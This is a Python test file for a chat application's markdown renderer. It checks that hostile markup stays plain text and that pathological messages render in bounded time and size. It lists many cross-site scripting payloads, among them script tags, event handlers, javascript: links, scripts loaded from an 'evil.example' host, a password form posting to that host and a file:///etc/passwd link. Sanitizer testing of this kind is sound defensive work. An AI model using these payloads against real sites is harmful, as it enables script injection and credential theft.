"""Whatever a message says, its HTML holds nothing but what is allowed, and is there in bounded time and size."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hallchat import markdown
from hallchat.text import MAX_MESSAGE
from tests.audit import audited

PAYLOADS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<img src=x onerror=alert(1)>
<img/src="x"/onerror=alert(1)//
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<style>@import 'https://evil.example/x.css'</style>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel=stylesheet href=//evil.example/x.css>
<base href="https://evil.example/">
<form action="https://evil.example/"><input type=password></form>
<object data="data:text/html,<script>alert(1)</script>"></object>
<a href="javascript:alert(1)">x</a>
<p style="position:fixed;inset:0" onclick=alert(1)>x</p>
<!-- <img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#10;script:alert(1))
[x](&#x6A;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](\x01javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](data:image/svg+xml,<svg/onload=alert(1)>)
[x](file:///etc/passwd)
[x](view-source:javascript:alert(1))
[x](https://a.example "onmouseover=alert(1) x=\\"")
[x](https://a.example/"onmouseover="alert(1))
[<img src=x onerror=alert(1)>](https://a.example)
![x](javascript:alert(1))
![x](https://a.example/pixel.png)
<javascript:alert(1)>
<https://a.example/"><script>alert(1)</script>
https://a.example/"onmouseover="alert(1)
[x]: javascript:alert(1)
**<b onmouseover=alert(1)>** *<u>* ~~<x>~~ `<script>`
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
<<script>script>alert(1)<</script>/script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<bdi data-user="7">@ana</bdi><bdi data-name="ana">@ana</bdi>
@ana"><script>alert(1)</script> @<script>alert(1)</script> @ana"onmouseover="alert(1)
[x](/h/1"onmouseover="alert(1)) [x](/h/1/../2) [x](//h/1) [x](/h/01) [x](/h/1?a=b)
<textarea></textarea><title></title><xmp><script>alert(1)</script></xmp>
""".strip().splitlines()
MULTILINE = [
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "    </code><img src=x onerror=alert(1)>",
    "> - <img src=x\n> onerror=alert(1)>",
    "[x]\n\n[x]: javascript:alert(1)",
    "<div>\n\n**a**\n\n<script>alert(1)</script>",
]


@pytest.mark.parametrize("payload", PAYLOADS + MULTILINE)
@pytest.mark.parametrize("frame", ["{}", "> {}", "- {}", "**{}**", "[{}](https://a.example)", "text {} text"])
def test_hostile_markup_stays_text(payload: str, frame: str) -> None:
    audited(frame.format(payload))


@given(
    st.lists(st.sampled_from([*PAYLOADS, "*", "**", "`", "```\n", "> ", "- ", "[", "](", ")", "\n", "<", '"', "&"]), max_size=8)
)
def test_mixtures_of_hostile_markup_stay_text(parts: list[str]) -> None:
    audited("".join(parts))


def test_raw_html_is_shown_as_it_was_typed() -> None:
    typed = "<script>alert('1 & 2')</script> &lt;b&gt;"
    assert audited(typed).shown == typed


@pytest.mark.parametrize(
    "typed", ['<bdi data-user="1">@ana</bdi>', '<bdi data-name="ana">@x</bdi>', "&lt;bdi data-name=&quot;x&quot;&gt;"]
)
def test_nobody_can_type_a_mention_as_html(typed: str) -> None:
    html = markdown.named(markdown.render(typed), lambda name: None, lambda name: None)
    assert markdown.MENTION not in html
    assert "<bdi" not in html


REPEATED = [
    ">",
    "*",
    "**a ",
    "_*",
    "[",
    "](",
    "![",
    "[a](",
    "`",
    "`` ` ",
    "~~a**",
    "<",
    "<a",
    "&",
    "\\",
    "- ",
    "> - ",
    "1. ",
    "- a\n",
    "- ```\n",
    "[](b)",
    "> \n",
    "@abc ",
    "#b ",
    "#b\n\n",
    "#& ",
    "#",
    "@",
    "@a.",
    "@_",
]
ADDRESSES = [
    "http://",
    "https://a.example ",
    "http://[",
    "x.com/(",
    "://",
    "www.",
    "a@b.co ",
    "a@",
    "//",
    "[x](http://",
    "a.",
    "<http://a",
]
GROWING = {
    "nested brackets": "[" * 4_000 + "]" * 4_000,
    "longer and longer code spans": " ".join("`" * i for i in range(1, 126))[:8_000],
    "deeper and deeper quotes": "\n".join(">" * i for i in range(1, 126))[:8_000],
    "deeper and deeper lists": "".join("  " * i + "- a\n" for i in range(87))[:8_000],
    "emphasis in emphasis": "*a **b " * 1_100,
}


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "content",
    [pytest.param((part * 8_000)[:8_000], id=repr(part)) for part in REPEATED + ADDRESSES]
    + [pytest.param(content, id=name) for name, content in GROWING.items()],
)
def test_the_longest_pathological_message_renders_in_bounded_time_and_size(content: str) -> None:
    started = time.process_time()
    audited(content)
    stored = markdown.named(markdown.render(content), lambda name: 12345, lambda name: 12345)
    assert time.process_time() - started < 2.0  # tens of milliseconds, and half a second for the worst, on slow cores
    assert len(stored) < 20 * MAX_MESSAGE


def test_bare_links_are_not_looked_for_among_very_many() -> None:
    few, many = markdown.MAX_BARE_LINKS, markdown.MAX_BARE_LINKS + 1
    assert len(audited("http://a.example " * few).links) == few
    assert audited("http://a.example " * many).links == []
